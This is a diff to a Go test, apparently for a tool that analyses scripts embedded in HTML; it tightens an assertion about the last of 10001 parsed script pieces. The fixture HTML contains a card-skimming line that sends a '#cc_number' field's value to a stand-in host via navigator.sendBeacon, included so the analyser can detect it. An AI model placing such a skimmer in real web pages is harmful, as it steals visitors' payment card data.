@@ -89,7 +89,7 @@ func TestThousandsOfTinyScripts(t *testing.T) {
 	b.WriteString("<script>navigator.sendBeacon('https://last.example/', document.querySelector('#cc_number').value)</script>")
 	pieces := script.AnalyseHTML(b.Bytes(), script.Options{})
 	last := pieces[len(pieces)-1]
-	if last.Analysis.Partial == "" && (len(pieces) != 10001 || len(last.Analysis.Hosts) != 1 || last.Line != 10001) {
+	if len(pieces) != 10001 || last.Analysis.Partial != "" || len(last.Analysis.Hosts) != 1 || last.Line != 10001 {
 		t.Errorf("%d pieces, the last %+v", len(pieces), last)
 	}
 }
